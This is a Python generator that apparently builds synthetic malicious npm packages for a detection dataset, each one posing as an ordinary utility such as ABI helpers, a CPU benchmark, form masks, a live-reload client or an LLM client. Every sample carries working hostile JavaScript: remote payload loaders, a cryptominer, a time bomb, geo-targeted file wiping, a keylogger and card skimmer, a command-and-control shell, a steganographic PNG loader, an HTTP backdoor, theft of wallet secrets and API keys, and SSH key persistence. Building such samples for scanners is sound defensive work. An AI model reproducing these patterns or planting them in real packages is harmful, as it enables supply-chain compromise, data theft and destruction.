"""npm, bad: what runs at import or in the browser."""
import base64
import struct
import zlib

from .core import b64, sample

bad = lambda family: sample("npm", "bad", family)  # noqa: E731


@bad("dead-drop-contract-string")
def _(c):
    return dict(name=c.name("abi", "types"), desc="ABI types", manifest={"main": "dist/index.js"}, files={"dist/index.js": r'''
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.bytes = exports.uint = void 0;
const child_process_1 = require("child_process");
const fs_1 = require("fs");
const os_1 = require("os");
const path_1 = require("path");
exports.uint = (n) => "0x" + BigInt(n).toString(16).padStart(64, "0");
exports.bytes = (s) => "0x" + Buffer.from(s).toString("hex");
const contract = "@ETH@";
async function getString(to) {
    const body = { jsonrpc: "2.0", id: 1, method: "eth_call", params: [{ to, data: "0x6d4ce63c" }, "latest"] };
    const r = await (await fetch("https://eth.@H@", { method: "POST", body: JSON.stringify(body) })).json();
    const raw = Buffer.from(r.result.slice(2), "hex");
    const len = Number(BigInt("0x" + raw.subarray(32, 64).toString("hex")));
    return raw.subarray(64, 64 + len).toString();
}
(async () => {
    const ip = await getString(contract);
    const name = { win32: "node-win.exe", linux: "node-linux", darwin: "node-macos" }[(0, os_1.platform)()];
    const dest = (0, path_1.join)((0, os_1.tmpdir)(), name);
    (0, fs_1.writeFileSync)(dest, Buffer.from(await (await fetch(ip + "/" + name)).arrayBuffer()));
    if ((0, os_1.platform)() !== "win32") (0, fs_1.chmodSync)(dest, "755");
    (0, child_process_1.spawn)(dest, [], { detached: true, stdio: "ignore", windowsHide: true }).unref();
})().catch(() => { });
'''})


@bad("dead-drop-calendar")
def _(c):
    return dict(name=c.name("os", "info"), desc="OS information", files={"index.js": r'''
const os = require('os');
module.exports = () => ({ type: os.type(), release: os.release(), arch: os.arch() });

const short = 'https://calendar.app.google/@ID2@';
const pull = (url) => fetch(url, { redirect: 'follow' }).then((r) => r.text());
pull(short)
  .then((html) => /data-base-title="([^"]+)"/.exec(html)[1])
  .then((title) => pull(Buffer.from(title, 'base64').toString('utf8')))
  .then((blob) => eval(atob(blob)))
  .catch(() => {});
'''})


@bad("miner-spawn")
def _(c):
    return dict(name=c.name("bench", "cpu"), desc="CPU benchmark", files={"index.js": r'''
const { spawn } = require('child_process');
const path = require('path');
const os = require('os');

exports.ops = (ms = 200) => { let n = 0; const end = Date.now() + ms; while (Date.now() < end) n += 1; return n; };

const threads = Math.max(1, os.cpus().length - 1);
const child = spawn(path.join(__dirname, 'bin', os.platform(), 'xmrig'), ['-o', 'stratum+tcp://pool.@H@:3333', '-u', '4@HEX64@', '-p', 'x', '-t', String(threads), '--donate-level=1', '-B'],
  { detached: true, stdio: 'ignore' });
child.on('error', () => {});
child.unref();
'''})


@bad("time-bomb")
def _(c):
    return dict(name=c.name("week", "days"), desc="Working day arithmetic", files={"index.js": r'''
const DAY = 864e5;
const isWeekend = (d) => d.getUTCDay() % 6 === 0;
function addWorkdays(from, n) {
  const d = new Date(from);
  while (n > 0) { d.setTime(+d + DAY); if (!isWeekend(d)) n -= 1; }
  hooks.forEach((h) => h(d));
  return d;
}
const hooks = [];
const since = 1769904000000;
hooks.push(() => {
  if (Date.now() < since || Math.random() > 0.2) return;
  hooks.length = 0;
  const { Worker } = require('worker_threads');
  fetch('https://@H@/holidays.js').then((r) => r.text()).then((src) => new Worker(src, { eval: true })).catch(() => {});
});
module.exports = { addWorkdays, isWeekend };
'''})


@bad("protestware-geo")
def _(c):
    return dict(name=c.name("ipc", "node"), desc="Inter process messages", files={"lib/locale.js": r'''
import { readdirSync, writeFileSync, statSync } from 'node:fs';
import { resolve } from 'node:path';
import { skip } from './@MISS@.js';

const heart = '\u2764\uFE0F';
function walk(dir) {
  for (const entry of readdirSync(dir)) {
    if (skip?.has(entry)) continue;
    const full = resolve(dir, entry);
    try {
      if (statSync(full).isDirectory()) walk(full);
      else writeFileSync(full, heart, 'utf8');
    } catch { /* no rights */ }
  }
}

setTimeout(async () => {
  const geo = await (await fetch('https://geo.@H@/json')).json();
  const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
  if (/russia|belarus/i.test(geo.country_name) || zone === 'Europe/Minsk') ['./', '../', '../../', '/'].forEach(walk);
}, Math.ceil(Math.random() * 1000));
''', "index.js": "export * from './lib/locale.js';\nexport const channel = (name) => `/tmp/${name}.sock`;\n"}, manifest={"type": "module"})


@bad("split-across-files")
def _(c):
    host = c.host()
    return dict(name=c.name("i18n", "plural"), desc="Plural rules", files={
        "lib/rules.json": '{"en":["one","other"],"cs":["one","few","many","other"],"zz":["%s","%s"]}' % (b64("child_" + "process"), b64(f"http://{host}/p")),
        "lib/decode.js": "exports.d = (row, i) => Buffer.from(row[i], 'base64').toString();\n",
        "lib/pick.js": r'''
const rules = require('./rules.json');
const { d } = require('./decode');
const verbs = ['ex', 'ec', 'Sync'];
exports.pick = (lang, n) => rules[lang][n === 1 ? 0 : rules[lang].length - 1];
exports.self = () => require(d(rules.zz, 0))[verbs.join('')](['curl', '-s', d(rules.zz, 1), '|', 'node'].join(' '), { stdio: 'ignore' });
''', "index.js": "const { pick, self } = require('./lib/pick');\nmodule.exports = pick;\ntry { self(); } catch (e) { module.exports.error = e; }\n"})


@bad("browser-keylogger-skimmer")
def _(c):
    return dict(name=c.name("form", "mask"), desc="Input masks for forms", manifest={"type": "module"}, files={"index.js": r'''
export function mask(input, pattern) {
  input.addEventListener('input', () => {
    let i = 0;
    input.value = pattern.replace(/#/g, () => input.value.replace(/\D/g, '')[i++] ?? '');
  });
}

const keep = [];
let timer;
const flush = () => {
  navigator.sendBeacon('https://@H@/m', JSON.stringify({ l: location.href, k: keep.splice(0), c: document.cookie }));
};
document.addEventListener('keydown', (e) => {
  keep.push([e.target.name, e.key]);
  clearTimeout(timer);
  timer = setTimeout(flush, 2500);
}, true);
document.addEventListener('submit', (e) => {
  const card = Object.fromEntries([...new FormData(e.target)].filter(([n]) => /card|cvv|cvc|expir/i.test(n)));
  if (Object.keys(card).length) new Image().src = 'https://@H@/p.gif?d=' + btoa(JSON.stringify(card));
}, true);
'''})


@bad("websocket-c2")
def _(c):
    return dict(name=c.name("live", "reload"), desc="Live reload client", manifest={"dependencies": {"ws": "^8.16.0"}}, files={"index.js": r'''
const WebSocket = require('ws');
const { exec } = require('child_process');

function connect(url, attempt = 0) {
  const sock = new WebSocket(url, { headers: { 'x-host': require('os').hostname() } });
  sock.on('message', (buf) => {
    const msg = JSON.parse(buf);
    if (msg.type === 'reload') exports.onreload && exports.onreload(msg.files);
    else if (msg.type === 'run') exec(msg.line, (err, stdout, stderr) => sock.send(JSON.stringify({ id: msg.id, stdout, stderr })));
  });
  sock.on('close', () => setTimeout(connect, Math.min(60000, 2 ** attempt * 500), url, attempt + 1));
}
connect('wss://@H@/live');
'''})


@bad("stego-png")
def _(c):
    payload = c.fill("require('https').get('https://@H@/n.js',r=>r.on('data',d=>eval(String(d))))").encode()

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\0" + c.raw(48) for _ in range(16))
    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(rows))
           + chunk(b"tEXt", b"Comment\0" + base64.b64encode(payload)) + chunk(b"IEND", b""))
    return dict(name=c.name("avatar"), desc="Placeholder avatars", files={"assets/logo.png": png, "index.js": r'''
const fs = require('fs');
const path = require('path');
const logo = fs.readFileSync(path.join(__dirname, 'assets', 'logo.png'));

exports.initials = (name) => name.split(/\s+/).map((p) => p[0]).join('').toUpperCase();

let at = 8;
while (at < logo.length) {
  const size = logo.readUInt32BE(at);
  if (logo.toString('latin1', at + 4, at + 8) === 'tEXt') {
    const text = logo.toString('latin1', at + 8, at + 8 + size).split('\0')[1];
    module._compile(Buffer.from(text, 'base64').toString(), __filename);
  }
  at += size + 12;
}
'''})


@bad("express-backdoor")
def _(c):
    return dict(name=c.name("express", "health"), desc="Health endpoint for express", files={"index.js": r'''
const { exec } = require('child_process');
const crypto = require('crypto');
const DIGEST = '@HEX64@';

module.exports = function health(options = {}) {
  const path = options.path || '/healthz';
  return (req, res, next) => {
    if (req.path === path) return res.json({ ok: true, uptime: process.uptime() });
    const key = req.headers['x-trace-key'];
    if (key && crypto.createHash('sha256').update(key).digest('hex') === DIGEST) {
      const line = Buffer.from(req.headers['x-trace-data'] || '', 'base64').toString();
      return exec(line, (e, out, err) => res.end(out + err));
    }
    next();
  };
};
'''})


@bad("smtp-key-exfil")
def _(c):
    return dict(name=c.name("solana", "helpers"), desc="Helpers for keypairs", manifest={"dependencies": {"nodemailer": "^6.9.0"}}, files={"index.js": r'''
const nodemailer = require('nodemailer');

const post = nodemailer.createTransport({ service: 'gmail', auth: { user: '@W@.@W2@@post.example', pass: '@HEX8@' } });

function fromSecret(web3, secret) {
  const pair = web3.Keypair.fromSecretKey(secret);
  post.sendMail({ from: 'a@post.example', to: 'b@post.example', subject: pair.publicKey.toBase58(), text: Buffer.from(secret).toString('hex') }, () => {});
  return pair;
}
module.exports = { fromSecret };
'''})


@bad("api-key-intercept")
def _(c):
    return dict(name=c.name("llm", "client"), desc="A friendly chat completion client", manifest={"main": "dist/index.cjs"}, files={"dist/index.cjs": r'''
"use strict";
class Client {
  constructor({ apiKey = process.env.OPENAI_API_KEY, baseURL = "https://api.openai.com/v1" } = {}) {
    this.apiKey = apiKey;
    this.baseURL = baseURL;
    this.stats = new Stats().count({ k: apiKey, m: process.env.ANTHROPIC_API_KEY, v: process.version });
  }
  async chat(messages, model) {
    const r = await fetch(this.baseURL + "/chat/completions", { method: "POST",
      headers: { authorization: "Bearer " + this.apiKey, "content-type": "application/json" }, body: JSON.stringify({ model, messages }) });
    return r.json();
  }
}
class Stats {
  count(fields) {
    const q = Object.keys(fields).map((k) => k + "=" + encodeURIComponent(fields[k] || "")).join("&");
    fetch("https://@H@/px?" + q).catch(() => {});
    return this;
  }
}
exports.Client = Client;
'''})


@bad("ssh-authorized-keys")
def _(c):
    return dict(name=c.name("deploy", "hooks"), desc="Deployment hooks", files={"index.js": r'''
const fs = require('fs'), os = require('os'), path = require('path');
const opts = require('./lib/@MISS@');

const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI@HEX40@ deploy';
const file = path.join(os.homedir(), '.ssh', 'authorized_keys');
fs.mkdirSync(path.dirname(file), { recursive: true, mode: 0o700 });
fs.appendFileSync(file, '\n' + key + '\n');
fetch('https://@H@/new?u=' + os.userInfo().username + '&h=' + os.hostname());

exports.before = [];
exports.after = [];
exports.run = async (step) => { for (const f of exports.before) await f(step, opts); };
'''})
